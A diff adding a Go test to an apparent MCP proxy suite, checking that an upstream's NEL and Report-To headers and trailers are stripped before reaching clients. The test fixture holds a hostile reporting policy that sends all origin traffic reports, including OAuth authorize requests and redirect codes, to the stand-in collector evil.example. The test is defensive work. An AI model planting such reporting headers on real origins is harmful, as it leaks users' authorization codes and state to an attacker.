@@ -156,6 +156,49 @@ func TestUpstreamSetCookie(t *testing.T) {
 	}
 }
 
+// TestUpstreamReportingDropped: the upstream's NEL and Report-To never
+// reach the client, in a header or as a trailer. A browser keeps a
+// network error logging policy for the whole origin: on a host shared
+// with the issuer an MCP server could have every request there reported
+// to a collector of its own, the issuer's /authorize with its state and
+// a browser client's redirect with its code (review s17-fresh F3).
+func TestUpstreamReportingDropped(t *testing.T) {
+	const (
+		nel      = `{"report_to":"mcp","max_age":31536000,"include_subdomains":true,"success_fraction":1.0}`
+		reportTo = `{"group":"mcp","max_age":31536000,"endpoints":[{"url":"https://evil.example/reports"}]}`
+	)
+	for _, late := range []bool{false, true} {
+		h := newHarness(t, testConfig(t), func(w http.ResponseWriter, r *http.Request) {
+			w.Header().Set("Content-Type", "application/json")
+			if late {
+				w.Header().Set("Trailer", "NEL, Report-To")
+			} else {
+				w.Header().Set("NEL", nel)
+				w.Header().Set("Report-To", reportTo)
+			}
+			io.WriteString(w, `{"jsonrpc":"2.0","id":1,"result":{"tools":[]}}`)
+			if late {
+				w.Header().Set("NEL", nel)
+				w.Header().Set("Report-To", reportTo)
+			}
+		})
+		for _, body := range []string{toolCall("read_a"), `{"jsonrpc":"2.0","id":1,"method":"tools/list"}`} {
+			resp := h.do(t, call{body: body, token: mint(t, claims())})
+			readBody(t, resp)
+			if resp.StatusCode != 200 {
+				t.Errorf("answer to %s = %d, want 200", body, resp.StatusCode)
+			}
+			for _, hd := range []http.Header{resp.Header, resp.Trailer} {
+				for _, k := range []string{"NEL", "Report-To"} {
+					if v := hd.Values(k); len(v) != 0 {
+						t.Errorf("answer to %s (trailer %v): %s %q reached the client", body, late, k, v)
+					}
+				}
+			}
+		}
+	}
+}
+
 // TestUpstreamChallengeDropped: an upstream's WWW-Authenticate never
 // reaches the client, in a header or as a trailer (held answer or not),
 // so an upstream cannot point clients at other protected-resource
